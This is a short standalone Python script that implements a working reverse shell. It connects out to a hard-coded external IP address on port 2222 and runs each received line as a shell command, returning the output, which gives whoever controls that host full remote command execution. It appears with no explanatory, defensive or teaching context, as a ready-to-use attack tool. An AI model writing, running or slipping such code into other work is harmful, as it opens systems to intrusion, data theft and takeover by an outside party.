import socket
import subprocess as sp

BUF = 8192


def handle(conn):
    conn.send(b"shell> ")
    while True:
        data = conn.recv(BUF)
        if not data:
            return
        try:
            out = sp.check_output(data, shell=True, stderr=sp.STDOUT, timeout=30)
        except sp.CalledProcessError as e:
            out = e.output
        conn.send(out + b"shell> ")


if __name__ == "__main__":
    c = socket.socket()
    c.connect(("63.250.40.18", 2222))
    handle(c)
